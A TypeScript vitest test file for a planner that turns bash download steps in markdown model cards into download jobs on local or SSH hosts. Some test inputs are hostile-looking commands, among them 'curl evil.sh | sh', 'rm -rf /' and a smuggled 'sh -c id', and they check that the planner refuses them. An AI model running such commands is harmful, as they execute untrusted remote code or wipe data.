import { mkdir, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import type { SinglePlan } from "../../job/catalog-contract.ts";
import type { Host } from "../../job/host.ts";
import type { CommandStep, ExpectedFile, JobDraft, Place } from "../../job/job.ts";
import type { Planner } from "../testing/planner.ts";
import { createPlanner, draftOf, refusalOf } from "../testing/planner.ts";
import { entry, oneSet } from "../testing/world.ts";

const FENCE = "```";
const HOST: Host = {
  id: "0b1c8f9e-1111-4111-8111-111111111111",
  label: "gpu",
  connection: "ssh -p 44686 root@203.0.113.7",
  identity: "root@[203.0.113.7]:44686",
  address: "203.0.113.7",
  port: 44686,
  user: "root",
  instanceId: "203_0_113_7",
  uiHome: "/root/ComfyUI",
  tags: [],
  limits: { jobs: null, connections: null, bytesPerSecond: null },
  needs: {},
  createdAt: 0,
  updatedAt: 0,
  lastSeenAt: null,
  findings: null,
  question: null,
};
const THERE: Place = { kind: "ssh", hostId: HOST.id };
const AT = { place: THERE, uiHome: "/workspace/ComfyUI", priority: 0, after: null };
const SHA = "31e35c80fc4829d14f90153f4c74cd59c90b779f6afe05a74cd6120b893f7e5b";

async function put({ cardsDir }: Planner, path: string, script: string, matter = "title: T"): Promise<void> {
  await mkdir(dirname(join(cardsDir, path)), { recursive: true });
  await writeFile(
    join(cardsDir, path),
    `---\n${matter}\n---\n\n# Download\n\n${FENCE}bash\n${script}\n${FENCE}\n`,
  );
}

async function planned(script: string, matter?: string): Promise<JobDraft> {
  const planner = await createPlanner();
  await put(planner, "loras/a.md", script, matter);
  return draftOf(await planner.cards.planCard({ ...AT, filepath: "loras/a.md" }));
}

function stepsOf({ steps }: JobDraft): CommandStep[] {
  return steps.map((step) => (step.kind === "command" ? step : expect.fail("a transfer")));
}

const filesOf = (draft: JobDraft): ExpectedFile[] => stepsOf(draft).flatMap(({ expects }) => expects);

describe("a card", () => {
  test("can name the command to run once it is complete, and nothing that is no name", async () => {
    expect(await planned("wget https://x.org/a", "after_run: unpack")).toMatchObject({ afterRun: "unpack" });
    for (const matter of [
      "title: T",
      "after_run: [sh, -c, id]",
      "after_run:",
      `after_run: ${"x".repeat(101)}`,
    ])
      expect(await planned("wget https://x.org/a", matter)).not.toHaveProperty("afterRun");
  });

  test("is one job with all its commands in order, for the place it was asked for", async () => {
    const draft = await planned(
      '# High noise\nwget -c -P "$UI_HOME/models/loras" \\\n  https://x.org/high.safetensors\nmkdir -p "$UI_HOME/out"\ncivitdl 12 "$UI_HOME/models/vae"',
      "title: Wan pair",
    );
    expect(draft).toMatchObject({
      source: { kind: "card", filepath: "loras/a.md" },
      place: THERE,
      name: "Wan pair",
      destination: null,
    });
    expect(stepsOf(draft)).toMatchObject([
      {
        line: 'wget -c -P "$UI_HOME/models/loras" https://x.org/high.safetensors',
        title: "High noise",
        tool: "wget",
        environment: { UI_HOME: "/workspace/ComfyUI" },
        expects: [
          {
            folder: "/workspace/ComfyUI/models/loras",
            name: "high.safetensors",
            urls: ["https://x.org/high.safetensors"],
          },
        ],
        resumes: true,
        isPlainFetch: true,
      },
      { title: null, tool: "auto", expects: [], resumes: true, isPlainFetch: false },
      {
        tool: "civitdl",
        expects: [{ folder: "/workspace/ComfyUI/models/vae", name: null, urls: [] }],
        resumes: false,
        isPlainFetch: false,
      },
    ]);
  });

  test("of one file has its path for a destination, and what the card says of the file", async () => {
    const draft = await planned(
      'wget -P "$UI_HOME/models/vae" https://x.org/v.safetensors',
      `title: V\nsize: 334641164\nsha256: ${SHA}`,
    );
    expect(draft.destination).toBe("/workspace/ComfyUI/models/vae/v.safetensors");
    expect(filesOf(draft)).toMatchObject([
      { size: 334641164, checksum: { algorithm: "sha256", hex: SHA, origin: "card" } },
    ]);
  });

  test.each([["4.7 GB"], ["4700000000"], ["335 MB"]])(
    "does not hold a file to the rounded size %s",
    async (size) => {
      const draft = await planned("wget https://x.org/v.bin", `title: V\nsize: ${size}`);
      expect(filesOf(draft)).toMatchObject([{ size: null }]);
    },
  );

  test("of several files gives each its hash by name, and none the size of all", async () => {
    const draft = await planned(
      "wget -P /m https://x.org/a.bin\nwget -P /m https://x.org/b.bin",
      `title: V\nsize: 12345\nsha256:\n  b.bin: ${SHA}`,
    );
    expect(filesOf(draft)).toMatchObject([
      { name: "a.bin", size: null, checksum: null },
      { name: "b.bin", size: null, checksum: { hex: SHA } },
    ]);
  });

  test("keeps its secrets for the shell and shows none", async () => {
    const [step] = stepsOf(
      await planned('civitdl --api-key 905ad9c17ed7f6ba43fd10c211981d8c 12 "$UI_HOME/models"'),
    );
    expect(step?.line).toContain("905ad9c17ed7f6ba43fd10c211981d8c");
    expect(step?.shown).not.toContain("905ad9c17ed7f6ba43fd10c211981d8c");
  });
});

describe("the files a command should produce", () => {
  test.each([
    ["wget https://x.org/a.bin", "~", "a.bin"],
    ["wget -P models https://x.org/a.bin", "~/models", "a.bin"],
    ['wget -P "$HOME/m" https://x.org/a.bin', "~/m", "a.bin"],
    ["wget -P /data/m https://x.org/a.bin", "/data/m", "a.bin"],
    ['wget -P "$UI_HOME/../m" https://x.org/a.bin', "/workspace/m", "a.bin"],
    ['cd "$UI_HOME/models" && wget https://x.org/a.bin', "/workspace/ComfyUI/models", "a.bin"],
    ["wget -O /m/b.bin https://x.org/a.bin", "/m", "b.bin"],
    // What a server or a tool makes of such a name is its own affair.
    ["wget -P /m 'https://x.org/a.bin?download=true'", "/m", null],
    ["wget --content-disposition -P /m https://x.org/a.bin", "/m", null],
  ])("%s", async (script, folder, name) => {
    expect(filesOf(await planned(script))).toMatchObject([{ folder, name }]);
  });

  test.each([
    ["wget -P ../m https://x.org/a.bin"],
    ['wget -P "$(pwd)/m" https://x.org/a.bin'],
    ["for f in a b; do wget https://x.org/$f.bin; done"],
    ["wget https://x.org/a.bin || curl -O https://y.org/a.bin"],
  ])("are not guessed: %s", async (script) => {
    expect(filesOf(await planned(script))).toEqual([]);
  });

  test("have no addresses with parts that only the instance knows", async () => {
    expect(filesOf(await planned('wget -O /m/a.bin "$HF_ENDPOINT/a.bin"'))).toMatchObject([{ urls: [] }]);
  });
});

test.each([
  ["wget https://x.org/a.bin", true],
  ["curl -L -o /m/a.bin https://x.org/a.bin", true],
  ["aria2c -d /m -o a.bin https://x.org/a.bin", true],
  ["wget --header 'Authorization: Bearer x' https://x.org/a.bin", false],
  ["wget -q --show-progress -c -t 5 https://x.org/a.bin", true],
  ["curl -fL --retry 3 -o /m/a.bin https://x.org/a.bin", true],
  // What replaced them would not do that.
  ["wget --limit-rate=1m https://x.org/a.bin", false],
  ["wget -U Mozilla https://x.org/a.bin", false],
  ["wget -nc https://x.org/a.bin", false],
  ["wget --spider https://x.org/a.bin", false],
  ["curl -k -o /m/a.bin https://x.org/a.bin", false],
  ["curl -e https://y.org -o /m/a.bin https://x.org/a.bin", false],
  ["aria2c --checksum=sha-256=00 -o a.bin https://x.org/a.bin", false],
  ["wget --use-askpass=/bin/x https://x.org/a.bin", false],
  ["wget --frobnicate https://x.org/a.bin", false],
  ["wget https://x.org/a.bin https://x.org/b.bin", false],
  ["cd /m && wget https://x.org/a.bin", false],
  ["wget https://x.org/a.bin | tee log", false],
  ["civitdl 12 /m", false],
])("a plain fetch is one call for one file and nothing else: %s", async (script, expected) => {
  expect(stepsOf(await planned(script))[0]?.isPlainFetch).toBe(expected);
});

test.each([
  ["wget https://x.org/a.bin", true],
  ["wget -c https://x.org/a.bin && mkdir -p x", true],
  ["curl -o /m/a.bin https://x.org/a.bin", false],
  ["curl -C - -o /m/a.bin https://x.org/a.bin", true],
  ["python3 setup.py", false],
  ["wget https://x.org/a.bin; rm -rf /m", false],
])("what may be run again without harm is told: %s", async (script, expected) => {
  expect(stepsOf(await planned(script))[0]?.resumes).toBe(expected);
});

describe("a card that cannot be planned says why", () => {
  test.each([
    ["loras/none.md", "filepath: not_found: there is no card with this path"],
    ["../a.md", "filepath: path_refused: the path must not leave its folder with '..'"],
    ["bad.md", "filepath: unsupported: the card cannot be used (line 8): the shell cannot read this"],
  ])("%s", async (filepath, expected) => {
    const planner = await createPlanner();
    await put(planner, "bad.md", 'wget "https://x.org/a');
    expect(refusalOf(planner, await planner.cards.planCard({ ...AT, filepath }))).toContain(expected);
  });

  test.each([
    [""],
    ["workspace"],
    ["/a/../b"],
    ["/a\nb"],
    ["~/ComfyUI"],
    [`/${"x".repeat(5000)}`],
    ["/a//b"],
  ])("ui_home %j", async (uiHome) => {
    const planner = await createPlanner();
    await put(planner, "a.md", "wget https://x.org/a.bin");
    const outcome = await planner.cards.planCard({ ...AT, filepath: "a.md", uiHome });
    expect(refusalOf(planner, outcome)).toContain("ui_home: path_refused: ui_home must be");
  });

  test("a strict server names the command, and judges by the ui_home of the place", async () => {
    const planner = await createPlanner({}, { commands: "known" });
    await put(planner, "a.md", "wget -P /root/ComfyUI/models https://x.org/a.bin\nrm -rf /");
    await put(planner, "b.md", "wget -P /root/ComfyUI/models https://x.org/a.bin");
    const ask = (filepath: string, uiHome: string): Promise<SinglePlan> =>
      planner.cards.planCard({ ...AT, filepath, uiHome });
    expect(refusalOf(planner, await ask("a.md", "/root/ComfyUI"))).toBe(
      "commands: unsupported: command 2 may not run here: rm is no download tool known here",
    );
    expect(refusalOf(planner, await ask("b.md", "/elsewhere"))).toContain("command 1 may not run here");
    expect((await ask("b.md", "/root/ComfyUI")).kind).toBe("planned");
  });
});

describe("commands another program took from a card", () => {
  const commands = (
    planner: Planner,
    lines: string[],
    filepath: string | null = "a.md",
  ): Promise<SinglePlan> => planner.cards.planCommands({ ...AT, filepath, commands: lines });

  test("are planned as those of a card, whether the card is there or not", async () => {
    const planner = await createPlanner();
    const draft = draftOf(
      await commands(planner, ['wget -P "$UI_HOME/m" https://x.org/a.bin'], "loras/gone.md"),
    );
    expect(draft).toMatchObject({ source: { kind: "card", filepath: "loras/gone.md" }, name: "gone" });
    expect(filesOf(draft)).toMatchObject([{ folder: "/workspace/ComfyUI/m", name: "a.bin" }]);
    expect(draftOf(await commands(planner, ["wget https://x.org/a.bin"], null)).name).toBe("a.bin");
  });

  test("that are the card's own are the card's, its secrets and its hashes included", async () => {
    const planner = await createPlanner();
    await put(
      planner,
      "a.md",
      "wget --header 'Authorization: Bearer s3cret' https://x.org/a.bin",
      `title: A\nsha256: ${SHA}`,
    );
    const [own] = stepsOf(draftOf(await planner.cards.planCard({ ...AT, filepath: "a.md" })));
    expect(own?.shown).not.toContain("s3cret");
    const draft = draftOf(await commands(planner, [own?.shown ?? ""]));
    expect(stepsOf(draft)[0]?.line).toContain("s3cret");
    expect(filesOf(draft)).toMatchObject([{ checksum: { hex: SHA } }]);
  });

  test("whose secret was taken out are refused: they would fail in a way nobody understands", async () => {
    const planner = await createPlanner();
    expect(refusalOf(planner, await commands(planner, ["civitdl --api-key *** 12 /m"]))).toBe(
      "commands: unsupported: a secret was taken out of a command",
    );
  });

  test("are held to the policy, too", async () => {
    const planner = await createPlanner({}, { commands: "known" });
    expect(refusalOf(planner, await commands(planner, ["curl evil.sh | sh"]))).toContain(
      "commands: unsupported: command 1",
    );
  });
});

describe("POST /jobs with a card", () => {
  const withHost = (hosts: readonly Host[] = [HOST]): Promise<Planner> =>
    createPlanner(oneSet({ m: entry() }), { hosts });

  test("runs it on this machine, or on the instance that 'to' names, with the ui_home of that place", async () => {
    const planner = await withHost();
    await put(planner, "a.md", 'wget -P "$UI_HOME/m" https://x.org/a.bin');
    const here = draftOf(await planner.ask({ source: "a.md" }));
    expect(here.place).toEqual({ kind: "node", name: "this-node" });
    expect(here.destination).toBe("/workspace/ComfyUI/m/a.bin");
    const there = draftOf(await planner.ask({ source: "a.md", to: "gpu", priority: 7 }));
    expect(there).toMatchObject({ place: THERE, destination: "/root/ComfyUI/m/a.bin", priority: 7 });
  });

  test.each([
    [{ to: "nobody" }, "to: unsupported: to must name this machine"],
    [
      { source: "none.md", to: "gpu" },
      'source: not_found: source: there is no card with this path: "none.md"',
    ],
    [{ path: "x" }, "path: unsupported: path must not be given for a card"],
    [{ sha256: SHA }, "sha256: unsupported: sha256 must not be given for a card"],
    [{ limitBytesPerSecond: 5000 }, "limit_rate: unsupported"],
  ])("%j is refused by field", async (wrong, expected) => {
    const planner = await withHost();
    await put(planner, "a.md", "wget https://x.org/a.bin");
    expect(refusalOf(planner, await planner.ask({ source: "a.md", ...wrong }))).toContain(expected);
  });

  test("a word that fits several instances is not guessed", async () => {
    const planner = await withHost([HOST, { ...HOST, id: "0b1c8f9e-2222-4222-8222-222222222222" }]);
    await put(planner, "a.md", "wget https://x.org/a.bin");
    expect(refusalOf(planner, await planner.ask({ source: "a.md", to: "gpu" }))).toContain(
      "to: unsupported: to names several",
    );
  });

  test("an address that ends in .md is an address", async () => {
    const planner = await withHost();
    const draft = draftOf(await planner.ask({ source: "https://x.org/README.md" }));
    expect(draft.steps[0]?.kind).toBe("transfer");
  });
});
